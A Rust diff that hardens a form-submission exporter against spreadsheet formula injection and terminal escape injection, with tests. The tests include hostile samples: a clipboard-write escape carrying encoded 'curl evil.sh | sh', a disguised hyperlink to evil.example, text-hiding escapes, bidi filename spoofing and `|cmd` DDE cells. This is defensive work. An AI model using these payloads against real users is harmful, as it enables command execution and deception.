@@ -5,13 +5,19 @@
 //!   `record,campaign,language,received`, then the field names in the order of the first record,
 //!   followed by names first seen in later records, in order of appearance. Multi-choice answers
 //!   are joined with `"; "`, consents are `yes`/`no`, a field a record lacks is empty. A cell that
-//!   starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, so a
-//!   spreadsheet shows it as text instead of running it as a formula
-//!   (<https://owasp.org/www-community/attacks/CSV_Injection>).
+//!   starts like a formula ([`starts_like_formula`]) gets a leading `'`, so a spreadsheet shows it
+//!   as text instead of running it (<https://owasp.org/www-community/attacks/CSV_Injection>).
+//!   Written to a file or a pipe, cells hold the exact answers, control characters included
+//!   (quoted). Shown on a terminal ([`Output::Terminal`]), every cell is escaped as
+//!   [`crate::escape`] describes, keeping only line feeds, so no answer can act on the terminal.
 //! * **JSON**: an array of objects
 //!   `{"record":…,"campaign":…,"language":…,"received":…,"fields":{name: value, …}}`, fields in the
 //!   record's own order; text and single choices are strings, multi choices arrays of strings,
-//!   consents booleans. **JSON Lines**: the same objects, one per line.
+//!   consents booleans. **JSON Lines**: the same objects, one per line. JSON escapes the C0
+//!   controls itself; every other character a terminal would act on or hide
+//!   ([`crate::escape::is_unsafe`]: DEL, C1, bidirectional and invisible characters) is written as
+//!   a `\uXXXX` escape too, wherever the export goes. The strings read back exactly the same, and
+//!   the export is safe to show on a terminal, now or later.
 
 use std::collections::HashSet;
 use std::fmt;
@@ -19,6 +25,8 @@ use std::io::{self, Write};
 
 use seal::{FieldValue, Submission};
 use zeroize::Zeroizing;
+
+use crate::escape::{self, LineFeeds};
 
 /// One opened record, ready to export.
 #[derive(Debug)]
@@ -41,10 +49,19 @@ pub enum Format {
     Jsonl,
 }
 
-/// Writes `records` in `format`.
-pub fn export(format: Format, records: &[Opened]) -> io::Result<SecretBuf> {
+/// Where an export goes, which decides how a CSV export shows control characters.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Output {
+    /// A file or a pipe: the exact answers (CSV quotes control characters).
+    FileOrPipe,
+    /// A terminal, which would act on control characters: CSV cells show them escaped.
+    Terminal,
+}
+
+/// Writes `records` in `format`, for `output`.
+pub fn export(format: Format, records: &[Opened], output: Output) -> io::Result<SecretBuf> {
     match format {
-        Format::Csv => Ok(csv(records)),
+        Format::Csv => Ok(csv(records, output)),
         Format::Json => json(records),
         Format::Jsonl => jsonl(records),
     }
@@ -56,13 +73,17 @@ pub const CSV_FIXED_COLUMNS: [&str; 4] = ["record", "campaign", "language", "rec
 /// The byte order mark a CSV export starts with.
 pub const UTF8_BOM: &[u8] = "\u{feff}".as_bytes();
 
-/// The characters that make a spreadsheet read a cell as a formula.
-const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+/// The characters that make a spreadsheet read a cell as a formula: `=`, `+`, `-`, `@`, their
+/// full-width forms (which some spreadsheets fold to the ASCII ones), and `|` (dynamic data
+/// exchange, as in `|cmd`).
+const FORMULA_TRIGGERS: [char; 9] = [
+    '=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}', '|',
+];
 
-/// The CSV export.
-pub fn csv(records: &[Opened]) -> SecretBuf {
+/// The CSV export, for `output`.
+pub fn csv(records: &[Opened], output: Output) -> SecretBuf {
     let columns = csv_field_columns(records);
-    let mut out = CsvWriter::new();
+    let mut out = CsvWriter::new(output);
     for name in CSV_FIXED_COLUMNS.iter().chain(&columns) {
         out.cell(name);
     }
@@ -98,10 +119,18 @@ pub fn csv_field_columns(records: &[Opened]) -> Vec<&str> {
         .collect()
 }
 
+/// Whether a spreadsheet might run `cell` as a formula: it starts with a trigger
+/// ([`FORMULA_TRIGGERS`]), even after spaces, tabs or line breaks (spreadsheets skip those when
+/// they look for a formula), or with a tab or a carriage return (OWASP lists those as triggers of
+/// their own).
+pub fn starts_like_formula(cell: &str) -> bool {
+    cell.starts_with(['\t', '\r']) || cell.trim_start().starts_with(FORMULA_TRIGGERS)
+}
+
 /// `cell`, with a leading `'` when it starts like a formula. The copy is wiped on drop.
 pub fn guard_formula(cell: &str) -> Zeroizing<String> {
     let mut guarded = Zeroizing::new(String::with_capacity(cell.len() + 1));
-    if cell.starts_with(FORMULA_STARTS) {
+    if starts_like_formula(cell) {
         guarded.push('\'');
     }
     guarded.push_str(cell);
@@ -144,7 +173,7 @@ pub fn json(records: &[Opened]) -> io::Result<SecretBuf> {
         })?;
     }
     out.write_all(b"]\n")?;
-    Ok(out)
+    escape_unsafe_in_json(&out)
 }
 
 /// The JSON Lines export: one object per line.
@@ -154,6 +183,30 @@ pub fn jsonl(records: &[Opened]) -> io::Result<SecretBuf> {
         json_object(&mut out, opened)?;
         out.write_all(b"\n")?;
     }
+    escape_unsafe_in_json(&out)
+}
+
+/// `json` with every character a terminal would act on or hide written as a `\uXXXX` escape
+/// (a surrogate pair above U+FFFF), as JSON allows for any character. serde_json has already
+/// escaped the C0 controls, quotes and backslashes inside strings, so a line feed left is the
+/// export's own layout, and JSON outside its strings is otherwise plain printable ASCII: every
+/// character left to escape is inside a string, and not just after a backslash.
+fn escape_unsafe_in_json(json: &SecretBuf) -> io::Result<SecretBuf> {
+    let text = std::str::from_utf8(json.expose())
+        .map_err(|err| io::Error::new(io::ErrorKind::InvalidData, err))?;
+    let mut out = SecretBuf::new();
+    let mut rest = text;
+    while let Some((at, c)) = rest
+        .char_indices()
+        .find(|&(_, c)| c != '\n' && escape::is_unsafe(c))
+    {
+        out.extend(&rest.as_bytes()[..at]);
+        for unit in c.encode_utf16(&mut [0; 2]) {
+            write!(out, "\\u{unit:04x}")?;
+        }
+        rest = &rest[at + c.len_utf8()..];
+    }
+    out.extend(rest.as_bytes());
     Ok(out)
 }
 
@@ -201,11 +254,12 @@ fn json_object(out: &mut SecretBuf, opened: &Opened) -> io::Result<()> {
 struct CsvWriter {
     core: csv_core::Writer,
     out: SecretBuf,
+    output: Output,
     at_record_start: bool,
 }
 
 impl CsvWriter {
-    fn new() -> Self {
+    fn new(output: Output) -> Self {
         let mut out = SecretBuf::new();
         out.extend(UTF8_BOM);
         Self {
@@ -213,15 +267,18 @@ impl CsvWriter {
                 .terminator(csv_core::Terminator::CRLF)
                 .build(),
             out,
+            output,
             at_record_start: true,
         }
     }
 
-    /// Writes one cell, guarded against formulas.
+    /// Writes one cell, guarded against formulas, and escaped for a terminal when it goes to one
+    /// (guarded first: the guard looks at the answer as typed).
     fn cell(&mut self, text: &str) {
         let Self {
             core,
             out,
+            output,
             at_record_start,
         } = self;
         if !*at_record_start {
@@ -229,7 +286,11 @@ impl CsvWriter {
         }
         *at_record_start = false;
         let guarded = guard_formula(text);
-        let mut input = guarded.as_bytes();
+        let shown = match output {
+            Output::FileOrPipe => guarded,
+            Output::Terminal => escape::for_terminal(&guarded, LineFeeds::Keep),
+        };
+        let mut input = shown.as_bytes();
         // Called at least once, even for an empty cell, so csv-core knows the field began.
         loop {
             let mut consumed = 0;
@@ -354,7 +415,11 @@ mod tests {
     }
 
     fn csv_text(records: &[Opened]) -> String {
-        let out = csv(records);
+        csv_text_for(records, Output::FileOrPipe)
+    }
+
+    fn csv_text_for(records: &[Opened], output: Output) -> String {
+        let out = csv(records, output);
         let text = std::str::from_utf8(out.expose()).unwrap();
         text.strip_prefix('\u{feff}').expect("a BOM").to_owned()
     }
@@ -415,12 +480,128 @@ mod tests {
 
     #[test]
     fn formula_starts_are_guarded_and_nothing_else() {
-        for cell in ["=1+2", "+1", "-1", "@x", "\tx", "\rx", "=", "-"] {
+        let guarded = [
+            "=1+2",
+            "+1",
+            "-1",
+            "@x",
+            "|cmd",
+            "\tx",
+            "\rx",
+            "=",
+            "-",
+            // Full-width forms.
+            "\u{ff1d}1+2",
+            "\u{ff0b}1",
+            "\u{ff0d}1",
+            "\u{ff20}SUM(A1)",
+            // After spaces and line breaks, which spreadsheets skip.
+            " =1+2",
+            "   +1",
+            "\n=HYPERLINK(\"http://x\")",
+            "\r\n@SUM(A1:A9)",
+            " \t -1",
+            "\u{a0}=1",
+            "\u{3000}\u{ff1d}1",
+            "\n|cmd",
+            // A tab or carriage return is guarded whatever follows.
+            "\t",
+            "\r",
+            "\rx",
+        ];
+        for cell in guarded {
+            assert!(starts_like_formula(cell), "{cell:?}");
             assert_eq!(*guard_formula(cell), format!("'{cell}"), "{cell:?}");
         }
-        for cell in ["", "1+2", " =1", "a=b", "'=1", "Mai", "\u{ff1d}1"] {
+        let left_alone = [
+            "",
+            "1+2",
+            "a=b",
+            "'=1",
+            "Mai",
+            " ",
+            "\n",
+            "\nMai",
+            "  text = more",
+            "x|y",
+            "1\u{ff1d}1",
+            "\u{200b}=1",
+        ];
+        for cell in left_alone {
+            assert!(!starts_like_formula(cell), "{cell:?}");
             assert_eq!(*guard_formula(cell), cell, "{cell:?}");
         }
+    }
+
+    /// Answers that attack a terminal, and how a CSV export written to one shows them.
+    #[test]
+    fn csv_on_a_terminal_escapes_every_cell_and_keeps_line_feeds() {
+        let cases = [
+            (
+                "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
+                "\\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u{7}",
+            ),
+            (
+                "\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\",
+                "\\u{1b}]8;;https://evil.example/\\u{1b}\\docs\\u{1b}]8;;\\u{1b}\\",
+            ),
+            ("\x1b[2J", "\\u{1b}[2J"),
+            ("I agree\x1b[8m not", "I agree\\u{1b}[8m not"),
+            ("evil\rgood", "evil\\u{d}good"),
+            ("\u{9b}2J", "\\u{9b}2J"),
+            ("\u{202e}gnp.exe", "\\u{202e}gnp.exe"),
+            ("\u{2067}abc\u{2069}", "\\u{2067}abc\\u{2069}"),
+            ("one\ntwo", "\"one\ntwo\""),
+            // Guarded as typed, then escaped.
+            ("\t=1", "'\\u{9}=1"),
+            ("Mai", "Mai"),
+        ];
+        for (answer, shown) in cases {
+            let records = [opened("r\x1b[2J", vec![("f\u{9b}", text(answer))])];
+            assert_eq!(
+                csv_text_for(&records, Output::Terminal),
+                format!(
+                    "record,campaign,language,received,f\\u{{9b}}\r\n\
+                     r\\u{{1b}}[2J,letter,en,2026-11-28,{shown}\r\n"
+                ),
+                "{answer:?}"
+            );
+            // To a file or a pipe, the exact answer (quoted if need be).
+            let exact = csv_text(&records);
+            let mut reader = ::csv::Reader::from_reader(exact.as_bytes());
+            assert_eq!(&reader.headers().unwrap()[4], "f\u{9b}");
+            let row = reader.records().next().unwrap().unwrap();
+            assert_eq!(&row[0], "r\x1b[2J");
+            assert_eq!(row[4], *guard_formula(answer), "{answer:?}");
+        }
+    }
+
+    #[test]
+    fn json_escapes_every_unsafe_character_and_reads_back_exactly() {
+        let hostile = "\x1b]52;c;eA==\x07 \x1b[2J\r\u{7f}\u{9b}\u{202e}\u{2066}\u{200b}\u{feff}\u{e0041} ok \u{200d} \u{5bc6}";
+        let records = [opened(
+            "r1",
+            vec![
+                ("t\u{202e}", text(hostile)),
+                ("c", FieldValue::Choices(vec![hostile.to_owned()])),
+            ],
+        )];
+        // The joiner and the ideograph are text, and stay as they are.
+        let escaped = "\\u001b]52;c;eA==\\u0007 \\u001b[2J\\r\\u007f\\u009b\\u202e\\u2066\\u200b\\ufeff\\udb40\\udc41 ok \u{200d} \u{5bc6}";
+        let line = format!(
+            r#"{{"record":"r1","campaign":"letter","language":"en","received":"2026-11-28","fields":{{"t\u202e":"{escaped}","c":["{escaped}"]}}}}"#
+        );
+        let jsonl = jsonl(&records).unwrap();
+        let jsonl = std::str::from_utf8(jsonl.expose()).unwrap();
+        assert_eq!(jsonl, format!("{line}\n"));
+        let json = json(&records).unwrap();
+        let json = std::str::from_utf8(json.expose()).unwrap();
+        assert_eq!(json, format!("[\n  {line}\n]\n"));
+        assert!(!json.chars().any(|c| escape::is_unsafe(c) && c != '\n'));
+
+        let parsed: serde_json::Value = serde_json::from_str(jsonl).unwrap();
+        assert_eq!(parsed["fields"]["t\u{202e}"], hostile);
+        assert_eq!(parsed["fields"]["c"][0], hostile);
     }
 
     #[test]
@@ -468,7 +649,7 @@ mod tests {
             values in prop::collection::vec(
                 prop_oneof![
                     any::<String>(),
-                    "[=+@\t\r\n\",; '-]{0,6}",
+                    "[=+@|\u{ff1d}\u{ff0b}\u{ff0d}\u{ff20} \u{3000}\t\r\n\",; '-]{0,6}",
                     "\\PC{0,20}",
                 ],
                 1..6,
@@ -481,14 +662,14 @@ mod tests {
                 .map(|(index, value)| (format!("f{index}"), text(value)))
                 .collect();
             let records = [opened(&record, fields)];
-            let out = csv(&records);
+            let out = csv(&records, Output::FileOrPipe);
             let mut reader = ::csv::ReaderBuilder::new().from_reader(out.expose());
             let rows: Vec<::csv::StringRecord> =
                 reader.records().collect::<Result<_, _>>().unwrap();
             prop_assert_eq!(rows.len(), 1);
             prop_assert_eq!(&rows[0][0], record.as_str());
             for (index, value) in values.iter().enumerate() {
-                let expected = if value.starts_with(FORMULA_STARTS) {
+                let expected = if starts_like_formula(value) {
                     format!("'{value}")
                 } else {
                     value.clone()
